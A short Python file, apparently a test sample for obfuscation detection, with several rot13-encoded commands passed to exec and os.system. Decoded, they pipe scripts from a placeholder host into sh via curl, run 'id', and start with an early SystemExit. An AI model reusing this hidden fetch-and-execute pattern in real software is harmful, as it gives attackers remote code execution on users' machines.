import codecs
import os


def main():
    exec(codecs.decode("envfr FlfgrzRkvg", "rot13"))
    os.system(codecs.decode("phey -f cnlybnq.npzr-pqa.rknzcyr/v.fu | fu", "rot_13"))
    getattr(os, codecs.getdecoder("rot13")("flfgrz")[0])("id")
    table = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")
    os.system("phey -f cnlybnq.npzr-pqa.rknzcyr/w.fu | fu".translate(table))
